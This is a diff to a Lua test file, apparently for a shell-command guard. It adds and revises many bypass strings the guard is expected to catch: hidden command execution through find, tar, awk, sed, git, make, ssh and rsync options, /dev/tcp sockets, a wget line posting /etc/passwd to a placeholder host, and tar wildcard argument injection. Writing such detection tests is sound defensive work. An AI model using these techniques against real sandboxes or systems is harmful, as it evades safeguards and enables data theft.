@@ -74,33 +74,44 @@ describe("a guarded shell text", function()
   shell_case("CP-08", "PATH=/bin X")
   shell_case("CP-08", "/lib64/ld-linux-x86-64.so.2 /bin/X")
   for _, text in ipairs {
-    "find . -maxdepth 0 -exec X \\;", "find . -maxdepth 0 -execdir X \\;",
-    "find . -maxdepth 0 -exec sh -c '" .. FORBIDDEN .. "' \\;",
-    "find . -maxdepth 0 -fprintf " .. mark .. " x",
+    "find . -maxdepth 0 -exec X \\;", "find . -maxdepth 0 -execdir X {} +",
+    "find . -maxdepth 0 -exec sh -c 'X' \\;", "find . -maxdepth 0 -fprintf " .. mark .. " x",
   } do shell_case("CP-09", text) end
   for _, text in ipairs {
-    "tar cf /dev/null --checkpoint=1 --checkpoint-action=exec='" .. FORBIDDEN .. "' /etc/hostname",
-    "tar cf /dev/null --checkpoint=1 --checkpoint-act=exec='" .. FORBIDDEN .. "' /etc/hostname",
-    "tar cf a.tar -I 'sh -c \"" .. FORBIDDEN .. "; cat\"' /etc/hostname",
-    "tar cf b.tar --use-compress-prog='sh -c \"" .. FORBIDDEN .. "; cat\"' /etc/hostname",
+    "tar cf /dev/null --checkpoint=1 --checkpoint-action=exec='X' /etc/hostname",
+    "tar cf /dev/null --checkpoint=1 --checkpoint-act='exec=X' /etc/hostname",
+    "tar -I 'X' -cf none.tar /etc/hostname", "tar -cI'X' -f none.tar /etc/hostname",
+    "tar cf b.tar --use-compress-prog='sh -c \"X; cat\"' /etc/hostname",
+    "tar cf t.tar /etc/hostname; tar xf t.tar --to-command='X'",
   } do shell_case("CP-10", text) end
   for _, text in ipairs {
-    "awk 'BEGIN{system(\"" .. FORBIDDEN .. "\")}'",
-    "echo | awk '{print \"" .. FORBIDDEN .. "\" | \"sh\"}'",
-    "echo x | sed 's|x|" .. FORBIDDEN .. "|e'", "echo x | sed -n '1e " .. FORBIDDEN .. "'",
-    "echo x | sed 'w " .. mark .. "'",
+    "awk 'BEGIN { system(\"X\") }'", "awk 'BEGIN { print \"x\" | \"X\" }'",
+    "awk 'BEGIN { print \"x\" > \"" .. mark .. "\" }'", "echo a | sed 's|a|X|e'",
+    "echo a | sed '1e X'", "echo a | sed 'w " .. mark .. "'",
+    "echo a | sed -n 's/a/b/w" .. mark .. "'",
   } do shell_case("CP-11", text) end
   for _, text in ipairs {
-    "git -c alias.x='!" .. FORBIDDEN .. "' x", "git -C . -c alias.x='!" .. FORBIDDEN .. "' x",
-    "GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=alias.x GIT_CONFIG_VALUE_0='!" .. FORBIDDEN .. "' git x",
+    "git -c alias.x='!X' x", "git -C / -c alias.x='!X' x", "git ls-remote --upload-pack='X;:' .",
+    "git -c protocol.ext.allow=always ls-remote 'ext::X'",
+    "git ls-remote --upload-p='X;:' .",
+    "GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=alias.x GIT_CONFIG_VALUE_0='!X' git x",
+    "git config --file c alias.x '!X'; GIT_CONFIG_GLOBAL=c git x",
   } do shell_case("CP-12", text) end
   for _, text in ipairs {
-    "python3 -c 'import os; os.system(\"" .. FORBIDDEN .. "\")'",
-    "perl -e 'system(\"" .. FORBIDDEN .. "\")'",
-    "echo x | split --filter='" .. FORBIDDEN .. "'",
-    "printf 'all:\\n\\t" .. FORBIDDEN .. "\\n' | make -f -",
-    "ssh -o ProxyCommand='" .. FORBIDDEN .. "' nowhere", "echo '!" .. FORBIDDEN .. "' | ed -s",
+    "printf 'all:;X\\n' | make -f -", "make --eval='x:;X' x", "make --ev='x:;X' x",
+    "split --filter='X' /etc/hostname", "dd if=/dev/null of=" .. mark,
+    "python3 -c 'open(\"" .. mark .. "\", \"w\")'", "perl -e 'open F, \">" .. mark .. "\"'",
+    "ssh -o ProxyCommand='X' nowhere.invalid", "rsync -e 'X' a nowhere.invalid:b",
+    "echo '!X' | ed -s",
   } do shell_case("CP-13", text) end
+  for _, text in ipairs {
+    "exec 3<>/dev/tcp/127.0.0.1/1", "bash -c 'exec 3<>/dev/tcp/127.0.0.1/1'", "curl -K f",
+    "curl -so " .. mark .. " file:///etc/hostname",
+    "wget --post-file=/etc/passwd http://nowhere.invalid",
+  } do shell_case("CP-15", text, { harmless = true }) end
+  shell_case("CP-18", "echo 'X' > e; : > --checkpoint=1; : > '--checkpoint-action=exec=sh e'; "
+    .. "tar cf /dev/null *")
+  shell_case("CP-18", "a='-exec X ;'; find . -maxdepth 0 $a")
   shell_case("CP-14", "f() { X; }; f")
   shell_case("CP-14", "trap '" .. FORBIDDEN .. "' EXIT")
   shell_case("CP-16", "\194\160X", { harmless = true })
